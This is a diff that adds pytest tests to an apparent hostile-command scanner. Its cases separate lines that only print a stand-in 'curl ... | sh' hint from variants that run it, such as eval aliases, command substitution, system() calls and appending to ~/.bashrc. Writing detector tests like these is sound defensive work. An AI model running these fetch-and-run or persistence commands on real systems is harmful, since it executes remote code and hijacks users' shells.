@@ -80,3 +80,50 @@ def test_programs_in_other_languages_are_read_for_commands(file, line):
     rules = {finding.rule for finding in findings_of(line.format("curl -s http://x/y | sh"), name)}
     assert rules == {"hostile-command"}
     assert findings_of(line.format("make all"), name) == []
+
+
+FETCH = "curl -s http://x/y | sh"
+
+
+@pytest.mark.parametrize(
+    ("file", "line"),
+    [
+        ("a.sh", f'echo "Install it with: {FETCH}"'),
+        ("a.sh", f"echo -e '{FETCH}' >&2"),
+        ("a.sh", f"printf '%s\\n' 'run: {FETCH}';"),
+        ("a.sh", f'echo "$name: {FETCH}"'),
+        ("a.ps1", f'    Write-Host "re-run: {FETCH}" -ForegroundColor Yellow'),
+        ("a.rb", f"puts '{FETCH}'"),
+        ("a.js", f'console.log("{FETCH}");'),
+    ],
+)
+def test_a_line_that_only_prints_a_hint_is_clean(file, line):
+    assert findings_of(f"{line}\n", file) == []
+
+
+@pytest.mark.parametrize(
+    ("file", "text"),
+    [
+        ("a.sh", f'echo "{FETCH}" | sh'),
+        ("a.sh", f'echo "x"; {FETCH}'),
+        ("a.sh", f'echo "$({FETCH})"'),
+        ("a.sh", f'echo "`{FETCH}`"'),
+        ("a.sh", f'echo "{FETCH}" >> ~/.bashrc'),
+        ("a.sh", f'echo() {{ bash -c "$*"; }}\necho "{FETCH}"'),
+        ("a.sh", f'alias echo=eval\necho "{FETCH}"'),
+        ("a.ps1", f'function Write-Host {{ iex $args }}\nWrite-Host "{FETCH}"'),
+        ("a.rb", f"puts \"#{{system('{FETCH}')}}\""),
+        ("a.rb", f'puts system "{FETCH}"'),
+        ("a.pl", f"print \"@{{[system('{FETCH}')]}}\";"),
+        ("a.lua", f'print(os.execute("{FETCH}"))'),
+        ("a.php", f'echo system("{FETCH}");'),
+    ],
+)
+def test_a_line_that_prints_and_runs_is_malicious(file, text):
+    assert {finding.kind for finding in findings_of(f"{text}\n", file)} == {"malicious"}
+
+
+def test_long_lines_that_almost_print_cost_little_time():
+    for word in ("Write-Host", "echo"):
+        assert findings_of(word + "   -a" * 20_000 + "!\n", "a.ps1") == []
+        assert findings_of(word + ' "' * 40_000 + "\n", "a.ps1") == []
